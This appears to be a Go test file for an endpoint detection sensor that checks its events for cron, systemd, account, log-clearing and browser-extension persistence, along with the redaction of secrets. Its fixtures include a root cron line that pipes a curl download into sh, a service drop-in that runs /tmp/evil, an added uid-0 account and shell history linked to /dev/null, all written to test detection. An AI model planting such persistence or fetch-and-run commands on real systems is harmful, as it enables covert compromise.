// SPDX-License-Identifier: Apache-2.0

package persist

import (
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/picket-edr/picket/sensor/redact"
)

// world is a tree of files and a tracker of it.
type world struct {
	*Tracker
	t    *testing.T
	root string
	tree *HostTree
}

const passwd = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/sh\npostgres:x:110:115::/var/lib/postgresql:/bin/bash\n"

// hide redacts as the sensor does.
func hide(t testing.TB) func(string) string {
	r, err := redact.New(redact.Policy{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return func(s string) string {
		s, _ = r.Text(redact.Script, s)
		return s
	}
}

// newWorld lays out files, path and content by turns, and takes the baseline.
func newWorld(t *testing.T, files ...string) *world {
	t.Helper()
	w := &world{t: t, root: t.TempDir()}
	w.write("/etc/passwd", passwd)
	for i := 0; i < len(files); i += 2 {
		w.write(files[i], files[i+1])
	}
	tree, err := OpenHost(w.root, false)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tree.Close() })
	w.tree = tree
	w.Tracker = NewTracker(tree, math.MaxInt64, hide(t))
	w.Baseline(func() bool { return false })
	if !w.complete {
		t.Fatal("the baseline is not complete")
	}
	return w
}

func (w *world) file(name string) string { return filepath.Join(w.root, name) }

func (w *world) write(name, content string) {
	w.t.Helper()
	if err := os.MkdirAll(filepath.Dir(w.file(name)), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(w.file(name), []byte(content), 0o644); err != nil {
		w.t.Fatal(err)
	}
}

func (w *world) must(err error) {
	w.t.Helper()
	if err != nil {
		w.t.Fatal(err)
	}
}

// apply hands a change over as the collector does.
func (w *world) apply(c Change) []Event {
	w.t.Helper()
	c.Tree = w.tree
	if !w.Interested(&c) {
		return nil
	}
	return w.Apply(&c)
}

func (w *world) wrote(op Op, name, content string) []Event {
	w.t.Helper()
	w.write(name, content)
	return w.apply(Change{Op: op, Path: name, Size: int64(len(content))})
}

func (w *world) removed(name string) []Event {
	w.t.Helper()
	w.must(os.Remove(w.file(name)))
	return w.apply(Change{Op: Deleted, Path: name})
}

func (w *world) moved(from, to string) []Event {
	w.t.Helper()
	w.must(os.MkdirAll(filepath.Dir(w.file(to)), 0o755))
	w.must(os.Rename(w.file(from), w.file(to)))
	return w.apply(Change{Op: Renamed, Path: to, OldPath: from})
}

func toText(e Event) string { return fmt.Sprintf("%+v", e) }

// gist is an event without what all events have.
func gist(events []Event) []string {
	var out []string
	for _, e := range events {
		out = append(out, strings.TrimSpace(e.Action+" "+e.Path+" "+e.Account))
	}
	return out
}

func (w *world) want(events []Event, want ...string) []Event {
	w.t.Helper()
	if diff := cmp.Diff(want, gist(events)); diff != "" {
		w.t.Fatalf("events (-want +got):\n%s", diff)
	}
	return events
}

func (w *world) field(e Event, key string, want any) {
	w.t.Helper()
	if diff := cmp.Diff(want, e.Fields[key]); diff != "" {
		w.t.Errorf("%s of %s (-want +got):\n%s", key, e.Action, diff)
	}
}

func TestLifeOfAFile(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/cron.d/old", "# old\n5 * * * * root /bin/old\n")
	const name = "/etc/cron.d/new"
	e := w.want(w.wrote(Created, name, "SHELL=/bin/sh\n*/5 * * * * root curl -u me:hunter2 http://x/ | sh\n"), "ScheduledTaskCreated "+name)[0]
	w.field(e, "Added", []string{"SHELL=/bin/sh", "*/5 * * * * root curl -u me:[redacted] http://x/ | sh"})
	w.field(e, "Tasks", []cronTask{{"*/5 * * * *", "root", "curl -u me:[redacted] http://x/ | sh"}})
	w.field(e, "AttackTechnique", "T1053.003")
	w.field(e, "PreviousKnown", nil)
	if e.File.Size == 0 || e.File.Ino == 0 {
		t.Errorf("file %+v", e.File)
	}
	w.want(w.wrote(Modified, name, "SHELL=/bin/sh\n*/5 * * * * root curl -u me:hunter2 http://x/ | sh\n")) // saved again
	e = w.want(w.wrote(Modified, "/etc/cron.d/old", "# old\n6 * * * * root /bin/old\n"), "ScheduledTaskUpdated /etc/cron.d/old")[0]
	w.field(e, "Added", []string{"6 * * * * root /bin/old"})
	w.field(e, "Removed", []string{"5 * * * * root /bin/old"})
	w.must(os.Chmod(w.file("/etc/cron.d/old"), 0o600))
	e = w.want(w.apply(Change{Op: Attributes, Path: "/etc/cron.d/old"}), "ScheduledTaskUpdated /etc/cron.d/old")[0]
	w.field(e, "PreviousMode", "0644")
	w.field(e, "Mode", "0600")
	e = w.want(w.removed("/etc/cron.d/old"), "ScheduledTaskDeleted /etc/cron.d/old")[0]
	w.field(e, "Removed", []string{"# old", "6 * * * * root /bin/old"})
	w.want(w.removed(name), "ScheduledTaskDeleted "+name)
}

// Editors write beside the file, move the old one away, the new one over it.
func TestRenames(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/crontab", "1 * * * * root a\n", "/tmp/x", "")
	w.want(w.wrote(Created, "/etc/crontab.swp", "x"))
	w.want(w.wrote(Created, "/etc/cron.d/4913", "")) // an editor's test, still there
	w.want(w.wrote(Created, "/tmp/y", "1 * * * * root b\n"))
	e := w.want(w.moved("/tmp/y", "/etc/crontab"), "ScheduledTaskUpdated /etc/crontab")[0]
	w.field(e, "Added", []string{"1 * * * * root b"})
	w.field(e, "Removed", []string{"1 * * * * root a"})
	w.must(os.Rename(w.file("/etc/crontab"), w.file("/etc/crontab~")))
	w.write("/etc/crontab", "1 * * * * root c\n")
	// The news of both come late: the file is there again.
	e = w.want(w.apply(Change{Op: Renamed, Path: "/etc/crontab~", OldPath: "/etc/crontab"}), "ScheduledTaskUpdated /etc/crontab")[0]
	w.field(e, "Added", []string{"1 * * * * root c"})
	w.want(w.apply(Change{Op: Created, Path: "/etc/crontab"}))
	w.want(w.moved("/etc/crontab", "/tmp/z"), "ScheduledTaskDeleted /etc/crontab")
	e = w.want(w.moved("/tmp/z", "/etc/cron.d/z"), "ScheduledTaskCreated /etc/cron.d/z")[0]
	w.field(e, "Operation", "Created")
}

// A folder that moves brings or takes all that is in it.
func TestFolders(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/tmp/d/override.conf", "[Service]\nExecStartPre=/tmp/evil --token=abcdef\n", "/tmp/d/readme", "x")
	const dir = "/etc/systemd/system/ssh.service.d"
	w.must(os.MkdirAll(w.file("/etc/systemd/system"), 0o755))
	e := w.want(w.moved("/tmp/d", dir), "ServiceInstalled "+dir+"/override.conf")[0]
	w.field(e, "ExecStartPre", "/tmp/evil --token=[redacted]")
	w.field(e, "ServiceName", "ssh.service")
	w.field(e, "DropIn", "override.conf")
	w.want(w.moved(dir, "/tmp/d"), "ServiceDeleted "+dir+"/override.conf")
	w.write("/home/alice/.config/google-chrome/Temp/u/manifest.json", `{"name":"Evil","version":"1.2","permissions":["tabs",{"x":1}],"host_permissions":["<all_urls>"]}`)
	const ext = "/home/alice/.config/google-chrome/Default/Extensions/abcdefgh/1.2_0"
	e = w.want(w.moved("/home/alice/.config/google-chrome/Temp/u", ext), "BrowserExtensionInstalled "+ext+"/manifest.json alice")[0]
	w.field(e, "ExtensionId", "abcdefgh")
	w.field(e, "ExtensionName", "Evil")
	w.field(e, "Browser", "Chrome")
	w.field(e, "Permissions", []string{"tabs", "<all_urls>"})
}

func TestShortLived(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const name = "/etc/cron.d/flash"
	w.want(w.apply(Change{Op: Created, Path: name, Size: 10}))
	events := w.want(w.apply(Change{Op: Deleted, Path: name}), "ScheduledTaskCreated "+name, "ScheduledTaskDeleted "+name)
	w.field(events[0], "ShortLived", true)
	// sed makes one too, and moves it over the real one.
	w.want(w.apply(Change{Op: Created, Path: "/etc/cron.d/sedAbCdEf", Size: 10}))
	w.write("/etc/cron.d/real", "x")
	w.want(w.apply(Change{Op: Renamed, Path: "/etc/cron.d/real", OldPath: "/etc/cron.d/sedAbCdEf"}), "ScheduledTaskCreated /etc/cron.d/real")
	w.want(w.apply(Change{Op: Deleted, Path: "/etc/cron.d/sedAbCdEf"}))
	w.want(w.apply(Change{Op: Created, Path: "/etc/cron.d/4913"}))
	w.want(w.apply(Change{Op: Deleted, Path: "/etc/cron.d/4913"}))
}

func TestAccounts(t *testing.T) {
	t.Parallel()
	const group, shadow = "root:x:0:\nsudo:x:27:\nusers:x:100:alice\n", "root:$6$aaaaaaaa$bbbbbbbb:19000:0:99999:7:::\nalice:$y$j9T$salt$hash1:19000:0:99999:7:::\n"
	w := newWorld(t, "/etc/group", group, "/etc/shadow", shadow)
	w.write("/etc/passwd+", passwd+"mallory:x:0:0:,,,:/var/lib/mallory:/bin/bash\n")
	e := w.want(w.moved("/etc/passwd+", "/etc/passwd"), "UserAccountCreated /etc/passwd mallory")[0]
	if e.AccountID != "0" || e.Fields["Superuser"] != true || e.Fields["Home"] != "/var/lib/mallory" {
		t.Errorf("event %+v", e)
	}
	w.want(w.wrote(Modified, "/etc/group", "root:x:0:\nsudo:x:27:alice\nusers:x:101:\nnew:x:999:mallory\n"),
		"SecurityGroupCreated /etc/group", "UserAccountAddedToLocalGroup /etc/group mallory", "UserAccountAddedToLocalGroup /etc/group alice",
		"SecurityGroupModified /etc/group", "UserAccountRemovedFromLocalGroup /etc/group alice")
	events := w.want(w.wrote(Modified, "/etc/shadow", strings.Replace(shadow, "hash1", "hash2", 1)+"mallory:!:19000:0:99999:7:::\n"), "PasswordChanged /etc/shadow alice")
	w.field(events[0], "Change", "Changed")
	events = w.want(w.wrote(Modified, "/etc/shadow", strings.Replace(shadow, "alice:$y", "alice:!$y", 1)+"mallory::19000:0:99999:7::20000:\n"),
		"PasswordChanged /etc/shadow alice", "PasswordChanged /etc/shadow mallory", "UserAccountModified /etc/shadow mallory")
	w.field(events[1], "Change", "Emptied")
	w.field(events[2], "Changed", map[string]any{"Expires": []string{"", "20000"}})
	// The home of the new user is watched from now on.
	w.want(w.wrote(Created, "/var/lib/mallory/.bashrc", "echo x\n"), "ShellProfileModified /var/lib/mallory/.bashrc mallory")
	e = w.want(w.wrote(Modified, "/etc/passwd", strings.Replace(passwd, "/bin/sh", "/bin/bash", 1)), "UserAccountModified /etc/passwd alice", "UserAccountDeleted /etc/passwd mallory")[0]
	w.field(e, "Changed", map[string]any{"Shell": []string{"/bin/sh", "/bin/bash"}})
	w.want(w.removed("/etc/group"), "SecurityGroupModified /etc/group")
}

// Whatever becomes of a shadow file, no hash is told.
func TestNoHashIsTold(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/shadow", "root:$6$s$OLDHASHOLDHASH:1::::::\n", "/etc/gshadow", "wheel:$6$s$OLDHASHOLDHASH::\n")
	var all []Event
	for i, content := range []string{"root:$6$s$NEWHASHNEWHASH:1::::::\n", "root:!$6$s$NEWHASHNEWHASH:1::::::\n", "root:$6$s$NEWHASHNEWHASH:1::::::\n", "root:*:1::::::\n", "$6$s$NEWHASHNEWHASH\n", ""} {
		all = append(all, w.wrote(Modified, "/etc/shadow", content)...)
		all = append(all, w.wrote(Modified, "/etc/gshadow", strings.ReplaceAll(content, "root:", "wheel:"))...)
		if len(all) == 0 {
			t.Errorf("step %d tells nothing", i)
		}
	}
	all = append(all, w.removed("/etc/shadow")...)
	var changes []string
	for _, e := range all {
		if s := toText(e); strings.Contains(s, "HASH") {
			t.Errorf("a hash is told: %s", s)
		}
		if e.Account == "root" {
			changes = append(changes, e.Fields["Change"].(string))
		}
	}
	if diff := cmp.Diff([]string{"Changed", "Locked", "Unlocked", "Removed"}, changes); diff != "" {
		t.Error(diff)
	}
	for _, s := range w.memory.states {
		if strings.Contains(s.items, "HASH") {
			t.Error("a hash is remembered")
		}
	}
}

func TestLogs(t *testing.T) {
	t.Parallel()
	const log, history = "/var/log/auth.log", "/home/alice/.bash_history"
	w := newWorld(t, log, strings.Repeat("line\n", 100), history, strings.Repeat("ls\n", 100), "/var/log/wtmp", "xxxx")
	w.want(w.wrote(Modified, log, strings.Repeat("line\n", 101)))
	w.want(w.moved(log, log+".1"))
	w.want(w.wrote(Created, log, ""))
	w.want(w.wrote(Modified, log, "line\nline\n"))
	w.write(log, "")
	e := w.want(w.apply(Change{Op: Modified, Path: log, Truncated: true}), "SecurityLogCleared "+log)[0]
	w.field(e, "Cleared", "Emptied")
	w.field(e, "PreviousSize", int64(10))
	w.write(log, "line\nline\n")
	w.want(w.apply(Change{Op: Modified, Path: log}))
	w.write(log, "line\n")
	w.want(w.apply(Change{Op: Modified, Path: log, Truncated: true, Actor: "/usr/sbin/logrotate"}))
	w.want(w.moved("/var/log/wtmp", "/tmp/w"), "SecurityLogCleared /var/log/wtmp")
	w.want(w.wrote(Modified, history, strings.Repeat("ls\n", 80)))
	e = w.want(w.wrote(Modified, history, "exit\n"), "SecurityLogCleared "+history+" alice")[0]
	w.field(e, "Cleared", "Shortened")
	w.want(w.removed(history), "SecurityLogCleared "+history+" alice")
	w.must(os.Symlink("/dev/null", w.file(history)))
	e = w.want(w.apply(Change{Op: Created, Path: history}), "SecurityLogCleared "+history+" alice")[0]
	w.field(e, "LinksTo", "/dev/null")
	w.want(w.removed(log), "SecurityLogCleared "+log)
}

func TestExcept(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.write("/run/sudo/ts/alice", "x")
	w.want(w.apply(Change{Op: Created, Path: "/run/sudo/ts/alice", Actor: "/usr/bin/sudo"}))
	w.write("/run/sudo/ts/alice", "xy")
	w.want(w.apply(Change{Op: Modified, Path: "/run/sudo/ts/alice", Actor: "/usr/bin/python3"}), "SudoTimestampModified /run/sudo/ts/alice")
	w.want(w.apply(Change{Op: Modified, Path: "/run/sudo/ts/alice", Actor: "/usr/bin/python3"}))
}

// Trees that cannot be read, files that are no files, and things too large.
func TestUnreadable(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/sudoers", "root ALL=(ALL) ALL\n")
	c := Change{Op: Modified, Path: "/etc/sudoers", Space: "mnt:1"}
	e := w.want(w.Apply(&c), "SudoersModified /etc/sudoers")[0]
	w.field(e, "ContentRead", false)
	w.write("/etc/sudoers", strings.Repeat("x", defaultLimit+1))
	e = w.want(w.apply(Change{Op: Modified, Path: "/etc/sudoers"}), "SudoersModified /etc/sudoers")[0]
	w.field(e, "PreviousKnown", nil)
	w.field(e, "Added", nil)
	w.must(os.Remove(w.file("/etc/sudoers")))
	w.must(os.Symlink("/etc/shadow", w.file("/etc/sudoers")))
	e = w.want(w.apply(Change{Op: Created, Path: "/etc/sudoers"}), "SudoersModified /etc/sudoers")[0]
	w.field(e, "LinksTo", "/etc/shadow")
	w.must(os.MkdirAll(w.file("/etc/sudoers.d/folder"), 0o755))
	w.want(w.apply(Change{Op: Created, Path: "/etc/sudoers.d/folder"}))
	if events := w.Apply(&Change{Op: Deleted, Path: "/etc/rc.local"}); len(events) != 1 || events[0].Action != "ServiceDeleted" {
		t.Errorf("events %v", gist(events))
	}
}

// What changed after the hooks were attached is not part of the baseline.
func TestBaselineLeavesOutWhatIsStillToCome(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/crontab", "1 * * * * root a\n")
	tr := NewTracker(w.tree, 0, hide(t))
	tr.Baseline(func() bool { return false })
	events := tr.Apply(&Change{Op: Modified, Path: "/etc/crontab", Tree: w.tree})
	w.want(events, "ScheduledTaskUpdated /etc/crontab")
	w.field(events[0], "PreviousKnown", false)
	w.field(events[0], "Tasks", []cronTask{{"1 * * * *", "root", "a"}})
	stopped := NewTracker(w.tree, math.MaxInt64, hide(t))
	stopped.Baseline(func() bool { return true })
	if stopped.complete {
		t.Error("a baseline that was stopped is complete")
	}
}

// A folder that is a link has its files under their real names.
func TestRealNames(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/bin/a\n")
	w.must(os.Symlink("usr/lib", w.file("/lib")))
	w.write("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/bin/b\nUser=nobody\n")
	e := w.want(w.apply(Change{Op: Modified, Path: "/lib/systemd/system/a.service"}), "ServiceModified /usr/lib/systemd/system/a.service")[0]
	w.field(e, "ExecStart", "/bin/b")
	w.field(e, "ServiceAccount", "nobody")
	w.field(e, "PreviousKnown", false) // the baseline keeps no text of what the system brings along
}

func TestEnabling(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const link = "/etc/systemd/system/multi-user.target.wants/a.service"
	w.must(os.MkdirAll(filepath.Dir(w.file(link)), 0o755))
	w.must(os.Symlink("/usr/lib/systemd/system/a.service", w.file(link)))
	e := w.want(w.apply(Change{Op: Created, Path: link}), "ServiceEnabled "+link)[0]
	w.field(e, "Target", "multi-user.target")
	w.field(e, "LinksTo", "/usr/lib/systemd/system/a.service")
	w.want(w.removed(link), "ServiceDisabled "+link)
	e = w.want(w.wrote(Created, "/home/alice/.config/systemd/user/b.timer", "[Timer]\nOnCalendar=*:0/5\n"), "ScheduledTaskCreated /home/alice/.config/systemd/user/b.timer alice")[0]
	w.field(e, "OnCalendar", "*:0/5")
	w.field(e, "TaskName", "b.timer")
}

func TestBoundedLists(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "/etc/hosts", "127.0.0.1 localhost\n")
	e := w.want(w.wrote(Modified, "/etc/hosts", strings.Repeat("192.0.2.1 "+strings.Repeat("é", 250)+"\n", 100)), "NameResolutionModified /etc/hosts")[0]
	added, _ := e.Fields["Added"].([]string)
	if len(added) != tellItems || e.Fields["AddedOmitted"] != 100-tellItems || len(added[0]) > tellBytes+3 {
		t.Errorf("%d items, %v left out", len(added), e.Fields["AddedOmitted"])
	}
	e = w.want(w.wrote(Modified, "/etc/hosts", strings.Repeat(strings.Repeat("x", 999)+"\n", 100)), "NameResolutionModified /etc/hosts")[0]
	e = w.want(w.wrote(Modified, "/etc/hosts", "x\n"), "NameResolutionModified /etc/hosts")[0]
	w.field(e, "PreviousKnown", false) // it was too much to remember
	e = w.want(w.wrote(Created, "/etc/nsswitch.conf", "passwd:  files systemd\n"), "NameResolutionModified /etc/nsswitch.conf")[0]
	w.field(e, "Added", []string{"passwd:  files systemd"}) // no secret, though it looks like one
	e = w.want(w.wrote(Modified, "/etc/nsswitch.conf", "\npasswd:  files systemd\n\n"), "NameResolutionModified /etc/nsswitch.conf")[0]
	w.field(e, "OrderOrSpacingOnly", true)
	w.memory.text = maxText
	w.memory.put("/x", &state{items: "lines", known: true})
	if w.memory.get("/x").known {
		t.Error("memory grows without bound")
	}
}
